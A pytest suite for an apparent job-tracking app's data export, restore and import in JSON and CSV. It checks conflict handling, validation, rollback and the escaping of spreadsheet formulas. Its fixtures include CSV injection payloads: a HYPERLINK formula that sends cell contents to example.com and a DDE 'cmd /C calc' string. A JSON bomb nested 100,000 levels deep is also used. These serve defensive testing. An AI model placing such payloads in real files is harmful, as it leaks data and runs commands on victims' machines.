"""Export of one user's data (JSON and CSV); restoring it into any store, or importing it
into an account."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pytest

from jobtrack_core import ConflictError, NotFoundError, ValidationError
from jobtrack_core.passwords import sha256_hex
from jobtrack_core.testing import FakeClock
from jobtrack_interchange import (
    Counts,
    OnConflict,
    export_csv,
    export_json,
    import_csv,
    import_json,
    restore_csv,
    restore_json,
)
from jobtrack_interchange._writing import Writer

from .interchange_helpers import (
    PASSWORD,
    bring_in,
    export_text,
    new_account,
    populate,
    state,
    without_time,
)

#: The two ways a file comes in: restoring its account, or importing it into an account.
HOW = ["restore", "import"]


@pytest.fixture
def source(make_app: Any) -> tuple[Any, str, str]:
    """An app with two populated users; returns (app, user id, the other user's id)."""
    clock = FakeClock()
    app = make_app(clock=clock)
    sam = populate(app, clock)
    kim = populate(app, clock, email="kim@example.com")
    return app, sam, kim


class CountingWriter(io.StringIO):
    def __init__(self) -> None:
        super().__init__()
        self.writes = 0

    def write(self, text: str) -> int:
        self.writes += 1
        return super().write(text)


def test_json_export_is_one_valid_document_written_record_by_record(source: Any) -> None:
    app, sam, kim = source
    out = CountingWriter()
    counts = export_json(app, sam, out)
    document = json.loads(out.getvalue())
    assert counts == Counts(users=1, customers=2, jobs=7, payments=2)
    assert document["format"] == "jobtrack/5"
    assert document["account"]["id"] == sam and document["account"]["email"] == "sam@example.com"
    assert document["account"]["password_hash"].startswith("$argon2id$")
    user = app.workspace(sam).user
    calendar = (document["account"]["timezone"], document["account"]["week_start"])
    assert calendar == (user.timezone, user.week_start) == ("UTC", 0)
    assert len(document["customers"]) == 2 and len(document["jobs"]) == 7
    assert out.writes > counts.customers + counts.jobs
    assert kim not in out.getvalue()  # nothing of the other user
    statuses = {j["status"] for j in document["jobs"]}
    assert statuses == {"pending", "in_progress", "completed", "cancelled"}


def test_export_without_password_hash_and_of_an_unknown_user(source: Any, tmp_path: Path) -> None:
    app, sam, _ = source
    document = json.loads(export_text(app, sam, include_password_hash=False))
    assert "password_hash" not in document["account"]
    assert "argon2" not in json.dumps(document)
    target = tmp_path / "out.json"
    with pytest.raises(NotFoundError):
        export_json(app, "nobody", target)
    assert list(tmp_path.iterdir()) == []  # no file, no leftover partial file
    export_json(app, sam, target)
    assert json.loads(target.read_text(encoding="utf-8"))["account"]["id"] == sam


def test_restore_is_lossless_and_idempotent(source: Any, make_app: Any) -> None:
    app, sam, _ = source
    text = export_text(app, sam)
    target = make_app()
    first = restore_json(target, io.StringIO(text))
    assert first.created == Counts(users=1, customers=2, jobs=7, payments=2)
    assert first.user_ids == (sam,)
    assert without_time(export_text(target, sam)) == without_time(text)
    assert state(target, sam) == state(app, sam)
    second = restore_json(target, io.BytesIO(text.encode()))
    assert second.created == Counts() and second.unchanged == Counts(
        users=1, customers=2, jobs=7, payments=2
    )
    assert state(target, sam) == state(app, sam)
    assert target.login("sam@example.com", PASSWORD).user.id == sam


@pytest.mark.parametrize("how", HOW)
def test_conflicting_records_fail_replace_or_keep(source: Any, make_app: Any, how: str) -> None:
    app, sam, _ = source
    text = export_text(app, sam)
    target = make_app()
    restore_json(target, io.StringIO(text))
    ws = target.workspace(sam)
    customer = ws.list_customers()[0]
    ws.update_customer(customer.id, notes="changed here")
    job = ws.list_jobs()[0]
    ws.update_job(job.id, title="Retitled")
    before = state(target, sam)

    with pytest.raises(ConflictError) as caught:
        bring_in(how, target, sam, text)
    assert customer.id in str(caught.value) and "notes" in str(caught.value)
    assert state(target, sam) == before

    kept = bring_in(how, target, sam, text, on_conflict="keep")
    assert kept.kept == Counts(customers=1, jobs=1)
    assert {(c.kind, c.id, c.resolution) for c in kept.conflicts} == {
        ("customer", customer.id, "kept"),
        ("job", job.id, "kept"),
    }
    assert state(target, sam) == before

    with pytest.raises(ValidationError, match="on_conflict"):
        bring_in(how, target, sam, text, on_conflict="merge")
    replaced = bring_in(how, target, sam, text, on_conflict=OnConflict.REPLACE)
    assert replaced.updated == Counts(customers=1, jobs=1)
    # The file's content, each replaced record one version on from what was stored (the
    # version read here, and one change since).
    changed = {customer.id: customer.version + 2, job.id: job.version + 2}
    exported = [
        attrs.evolve(r, version=changed.get(r.id, r.version))
        for r in [*app.workspace(sam).list_customers(), *app.workspace(sam).list_jobs()]
    ]
    assert [*ws.list_customers(), *ws.list_jobs()] == exported


def _broken(document: dict[str, Any], change: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(json.dumps(document))
    job = next(j for j in doc["jobs"] if j["status"] == "completed")
    if change == "format":
        doc["format"] = "jobtrack/9"
    elif change == "missing":
        del doc["customers"][0]["name"]
    elif change == "owner":
        doc["customers"][0]["user_id"] = "someone-else"
    elif change == "completion":
        job["completed_at"] = None
    elif change == "paid_at":
        job["paid"], job["paid_at"] = False, job["created_at"]
    elif change == "duplicate":
        doc["jobs"].append(doc["jobs"][0])
    elif change == "money":
        job["actual_cost"] = 12.5
    elif change == "places":
        job["actual_cost"] = "12.505"
    elif change == "customer":
        job["customer_id"] = "nowhere"
    elif change == "bare digest":
        doc["account"]["password_hash"] = sha256_hex("hunter2")
    elif change == "plain password":
        doc["account"]["password_hash"] = "hunter2"
    elif change == "email":
        doc["account"]["email"] = "not an email"
    elif change == "naive time":
        doc["customers"][1]["created_at"] = "2025-07-06T09:00:00"
    return doc


#: What each broken file's refusal names (a path, or part of one).
BROKEN = {
    "format": "format",
    "missing": "customers[0].name",
    "owner": "customers[0].user_id",
    "completion": "completed_at",
    "paid_at": "paid_at",
    "duplicate": ".id",
    "money": "actual_cost",
    "places": "actual_cost",
    "customer": "customer_id",
    "bare digest": "account.password_hash",
    "plain password": "account.password_hash",
    "email": "account.email",
    "naive time": "customers[1].created_at",
}
#: Only a restore uses the file's password hash: an import into an account ignores it.
RESTORE_ONLY = {"bare digest", "plain password"}


@pytest.mark.parametrize(
    ("how", "change"),
    [
        (how, change)
        for how in HOW
        for change in sorted(BROKEN)
        if how == "restore" or change not in RESTORE_ONLY
    ],
)
def test_a_bad_file_is_refused_naming_the_problem_and_changes_nothing(
    source: Any, make_app: Any, how: str, change: str
) -> None:
    app, sam, _ = source
    document = json.loads(export_text(app, sam))
    target = make_app()
    kept = populate(target, FakeClock(), email="someone@example.com")
    before = state(target, kept, sam)
    with pytest.raises(ValidationError) as caught:
        bring_in(how, target, kept, json.dumps(_broken(document, change)))
    assert any(BROKEN[change] in field for field in caught.value.fields), caught.value
    assert state(target, kept, sam) == before


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize("text", ["", "{", "[]", '{"customers": [], "jobs": []}', "\ud800"])
def test_unparseable_or_foreign_files_are_refused(make_app: Any, how: str, text: str) -> None:
    app = make_app()
    me = new_account(app)
    with pytest.raises(ValidationError):
        bring_in(how, app, me.user_id, text)


DEEP = '{"customers": ' + "[" * 100_000 + "]" * 100_000 + "}"


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize("kind", ["path", "text stream", "binary stream"])
def test_json_nested_too_deeply_is_refused_naming_the_file(
    make_app: Any, tmp_path: Path, kind: str, how: str
) -> None:
    path = tmp_path / "deep.json"
    path.write_text(DEEP, encoding="utf-8")
    source: Any = {
        "path": path,
        "text stream": io.StringIO(DEEP),
        "binary stream": io.BytesIO(DEEP.encode()),
    }[kind]
    app = make_app()
    with pytest.raises(ValidationError) as caught:
        if how == "restore":
            restore_json(app, source)
        else:
            import_json(new_account(app), source)
    assert caught.value.fields == ("file",)
    assert "nested too deeply" in caught.value.errors[0].message


def test_a_csv_manifest_nested_too_deeply_is_refused(make_app: Any) -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("manifest.json", DEEP)
    app = make_app()
    brings: list[Callable[[io.BytesIO], object]] = [
        lambda a: restore_csv(app, a),
        lambda a: import_csv(new_account(app), a),
    ]
    for bring in brings:
        with pytest.raises(ValidationError) as caught:
            bring(io.BytesIO(archive.getvalue()))
        assert caught.value.fields == ("manifest.json",)
        assert "nested too deeply" in caught.value.errors[0].message


def test_values_cleaned_on_the_way_in_are_reported(source: Any, make_app: Any) -> None:
    app, sam, _ = source
    document = json.loads(export_text(app, sam))
    document["account"]["email"] = "Sam@Example.COM"
    bob = next(c for c in document["customers"] if c["name"] == "Bob")
    bob["name"], bob["phone"], bob["notes"] = " Bob  ", "", "  "
    report = restore_json(make_app(), io.StringIO(json.dumps(document)))
    changes = {(a.kind, a.id, a.field): a for a in report.alterations}
    assert set(changes) == {
        ("user", sam, "email"),
        ("customer", bob["id"], "name"),
        ("customer", bob["id"], "phone"),
        ("customer", bob["id"], "notes"),
    }
    email = changes[("user", sam, "email")]
    assert (email.old, email.new) == ("Sam@Example.COM", "sam@example.com")
    assert "lower-cased" in email.reason
    assert "trimmed" in changes[("customer", bob["id"], "name")].reason
    assert changes[("customer", bob["id"], "phone")].new is None
    assert restore_json(make_app(), io.StringIO(export_text(app, sam))).alterations == ()


@pytest.mark.parametrize("how", HOW)
def test_a_failure_while_writing_rolls_everything_back(
    source: Any, make_app: Any, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    app, sam, _ = source
    text = export_text(app, sam)
    target = make_app()
    me = new_account(target)
    before = state(target, me.user_id, sam)
    # The store refuses the file's last job: the account (on a restore) and every
    # customer and earlier job are written by then.
    last = json.loads(text)["jobs"][-1]["id"]
    write_job = Writer.job

    def refusing(writer: Writer, job: Any, payments: Any = ()) -> None:
        if job.id == last:
            raise ConflictError("id", f"job {job.id!r} refused by the store")
        write_job(writer, job, payments)

    monkeypatch.setattr(Writer, "job", refusing)
    with pytest.raises(ConflictError, match=last):
        bring_in(how, target, me.user_id, text)
    assert state(target, me.user_id, sam) == before
    assert state(target, sam) == [None]


def test_restoring_over_an_account_with_the_same_email_is_a_conflict(
    source: Any, make_app: Any
) -> None:
    app, sam, _ = source
    target = make_app()
    other = new_account(target, email="sam@example.com", name="Another Sam")
    before = state(target, other.user_id, sam)
    with pytest.raises(ConflictError) as caught:
        restore_json(target, io.StringIO(export_text(app, sam)))
    assert caught.value.field == "account"
    assert state(target, other.user_id, sam) == before


def test_dry_run_reports_and_writes_nothing(source: Any, make_app: Any) -> None:
    app, sam, _ = source
    target = make_app()
    report = restore_json(target, io.StringIO(export_text(app, sam)), dry_run=True)
    assert report.dry_run and report.created == Counts(users=1, customers=2, jobs=7, payments=2)
    assert state(target, sam) == [None]
    assert "nothing written" in report.summary()
    me = new_account(target)
    before = state(target, me.user_id)
    report = import_json(me, io.StringIO(export_text(app, sam)), dry_run=True)
    assert report.dry_run and report.created == Counts(customers=2, jobs=7, payments=2)
    assert state(target, me.user_id, sam) == [*before, None]


def test_an_export_without_the_hash_restores_nothing_but_imports_into_an_account(
    source: Any, make_app: Any
) -> None:
    app, sam, _ = source
    text = export_text(app, sam, include_password_hash=False)
    target = make_app()
    with pytest.raises(ValidationError, match="password_hash"):
        restore_json(target, io.StringIO(text))
    assert state(target, sam) == [None]
    restore_json(target, io.StringIO(export_text(app, sam)))
    ws = target.workspace(sam)
    ws.delete_customer(ws.list_customers()[0].id)
    report = import_json(ws, io.StringIO(text))
    assert report.created.customers == 1 and report.created.users == 0
    assert report.unchanged.users == 0 and report.user_ids == (sam,)
    assert state(target, sam) == state(app, sam)


def test_csv_export_holds_one_table_per_file_and_imports_back(
    source: Any, make_app: Any, tmp_path: Path
) -> None:
    app, sam, _ = source
    archive = tmp_path / "export.zip"
    assert export_csv(app, sam, archive) == Counts(users=1, customers=2, jobs=7, payments=2)
    with zipfile.ZipFile(archive) as zipped:
        tables = [
            "account.csv",
            "billing.csv",
            "numbers.csv",
            "customers.csv",
            "jobs.csv",
            "quotes.csv",
            "quote_lines.csv",
            "invoices.csv",
            "invoice_lines.csv",
            "payments.csv",
            "history.csv",
        ]
        assert zipped.namelist() == ["manifest.json", *tables]
        assert json.loads(zipped.read("manifest.json"))["format"] == "jobtrack/5"
        header = zipped.read("account.csv").decode().splitlines()[0]
        assert header.endswith(",timezone,week_start,password_hash")
        jobs = zipped.read("jobs.csv").decode()
        assert jobs.startswith("id,user_id,customer_id,title,")
        assert '"Job 1, with a comma","line one\nline two"' in jobs
    target = make_app()
    report = restore_csv(target, archive)
    assert report.created == Counts(users=1, customers=2, jobs=7, payments=2)
    assert state(target, sam) == state(app, sam)
    assert restore_csv(target, archive.open("rb")).unchanged == Counts(
        users=1, customers=2, jobs=7, payments=2
    )
    me = new_account(target)
    assert import_csv(me, archive).created == Counts(customers=2, jobs=7, payments=2)
    assert import_csv(me, archive.open("rb")).unchanged == Counts(customers=2, jobs=7, payments=2)


def test_csv_problems_are_named_by_file_and_line(source: Any, make_app: Any) -> None:
    app, sam, _ = source
    original = io.BytesIO()
    export_csv(app, sam, original)
    broken = io.BytesIO()
    with zipfile.ZipFile(original) as source_zip, zipfile.ZipFile(broken, "w") as out:
        for name in source_zip.namelist():
            data = source_zip.read(name).decode()
            if name == "customers.csv":
                rows = list(csv.reader(io.StringIO(data, newline="")))
                assert rows[2][2] == "Bob"
                rows[2][2] = ""
                text = io.StringIO(newline="")
                csv.writer(text, lineterminator="\n").writerows(rows)
                data = text.getvalue()
            out.writestr(name, data)
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as out:
        out.writestr("manifest.json", '{"format": "jobtrack/2"}')
    target = make_app()
    me = new_account(target)
    brings: list[Callable[[io.BytesIO], object]] = [
        lambda a: restore_csv(target, a),
        lambda a: import_csv(me, a),
    ]
    for bring in brings:
        with pytest.raises(ValidationError) as caught:
            bring(io.BytesIO(broken.getvalue()))
        assert caught.value.fields == ("customers.csv row 2.name",)
        with pytest.raises(ValidationError, match="zip"):
            bring(io.BytesIO(b"not a zip"))
        with pytest.raises(ValidationError, match=r"account\.csv"):
            bring(io.BytesIO(empty.getvalue()))


@pytest.mark.parametrize("chunk", [1, 2, 1000])
def test_export_reflects_the_store_exactly(
    source: Any, chunk: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jobtrack_interchange.export.CHUNK", chunk)
    app, sam, _ = source
    document = json.loads(export_text(app, sam))
    ws = app.workspace(sam)
    assert [c["id"] for c in document["customers"]] == [c.id for c in ws.list_customers()]
    assert [j["id"] for j in document["jobs"]] == [j.id for j in ws.list_jobs()]
    paid = [j for j in ws.list_jobs() if j.paid]
    assert {j["id"] for j in document["jobs"] if j["paid_at"]} == {j.id for j in paid}
    assert attrs.asdict(ws.user)["email"] == document["account"]["email"]


# -- formulas in CSV cells ------------------------------------------------------------------
#: Text a spreadsheet would run as a formula, and text that only looks escaped.
RISKY = {
    "name": '=HYPERLINK("http://example.com/x?"&A1,"Click")',
    "phone": "+1+1",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3\rsecond line\r\nthird",  # a lone CR too
    "business_name": "'=already quoted",
}
#: Ids are opaque text: they may start with anything but white space or control characters.
RISKY_IDS = ("@customer", "+job", "=job", "'@job")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def risky(make_app: Any) -> tuple[Any, str]:
    app = make_app()
    user = app.register(email="-sam@example.com", password=PASSWORD, name="+Sam")
    ws = app.workspace(user.id)
    customer = ws.add_customer(id=RISKY_IDS[0], **RISKY)
    for job_id in RISKY_IDS[1:]:
        ws.create_job(customer.id, "=1+2", id=job_id, description="@A1\n=B2")
    return app, user.id


def _cells(archive: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as zipped:
        return {
            name: list(csv.reader(io.StringIO(zipped.read(name).decode(), newline="")))[1:]
            for name in ("account.csv", "customers.csv", "jobs.csv")
        }


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(risky: Any) -> None:
    app, user_id = risky
    out = io.BytesIO()
    export_csv(app, user_id, out)
    cells = [cell for rows in _cells(out.getvalue()).values() for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert "'" + RISKY["name"] in cells and "'+1+1" in cells and "'-sam@example.com" in cells
    assert "'@customer" in cells and "'+job" in cells and "''@job" in cells
    assert "''=already quoted" in cells  # so that the import can tell it from an escape
    with zipfile.ZipFile(out) as zipped:
        assert json.loads(zipped.read("manifest.json"))["formulas"] == "escape"


def test_escaped_csv_round_trips_losslessly(risky: Any, make_app: Any) -> None:
    app, user_id = risky
    out = io.BytesIO()
    export_csv(app, user_id, out)
    target = make_app()
    assert restore_csv(target, io.BytesIO(out.getvalue())).created == Counts(1, 1, 3)
    assert state(target, user_id) == state(app, user_id)
    assert without_time(export_text(target, user_id)) == without_time(export_text(app, user_id))
    customer = target.workspace(user_id).get_customer(RISKY_IDS[0])
    assert (customer.name, customer.business_name) == (RISKY["name"], RISKY["business_name"])


def test_csv_formulas_can_be_kept_as_they_are(risky: Any, make_app: Any) -> None:
    app, user_id = risky
    out = io.BytesIO()
    export_csv(app, user_id, out, formulas="keep")
    cells = [cell for rows in _cells(out.getvalue()).values() for row in rows for cell in row]
    assert RISKY["name"] in cells and "+job" in cells and "'=already quoted" in cells
    with zipfile.ZipFile(out) as zipped:
        assert json.loads(zipped.read("manifest.json"))["formulas"] == "keep"
    target = make_app()
    restore_csv(target, io.BytesIO(out.getvalue()))
    assert state(target, user_id) == state(app, user_id)
    with pytest.raises(ValidationError, match="formulas"):
        export_csv(app, user_id, io.BytesIO(), formulas="strip")


def test_a_csv_archive_without_a_formulas_entry_is_read_as_it_is(risky: Any, make_app: Any) -> None:
    app, user_id = risky
    out = io.BytesIO()
    export_csv(app, user_id, out, formulas="keep")
    older = io.BytesIO()  # as written before the manifest said how formulas were written
    with zipfile.ZipFile(out) as source_zip, zipfile.ZipFile(older, "w") as copy:
        for name in source_zip.namelist():
            data = source_zip.read(name)
            if name == "manifest.json":
                manifest = json.loads(data)
                del manifest["formulas"]
                data = json.dumps(manifest).encode()
            copy.writestr(name, data)
    target = make_app()
    restore_csv(target, io.BytesIO(older.getvalue()))
    assert target.workspace(user_id).get_customer(RISKY_IDS[0]).business_name == "'=already quoted"
    broken = io.BytesIO()
    with zipfile.ZipFile(older) as source_zip, zipfile.ZipFile(broken, "w") as copy:
        for name in source_zip.namelist():
            data = source_zip.read(name)
            if name == "manifest.json":
                data = json.dumps({**json.loads(data), "formulas": "maybe"}).encode()
            copy.writestr(name, data)
    with pytest.raises(ValidationError) as caught:
        restore_csv(make_app(), io.BytesIO(broken.getvalue()))
    assert caught.value.fields == ("manifest.json.formulas",)
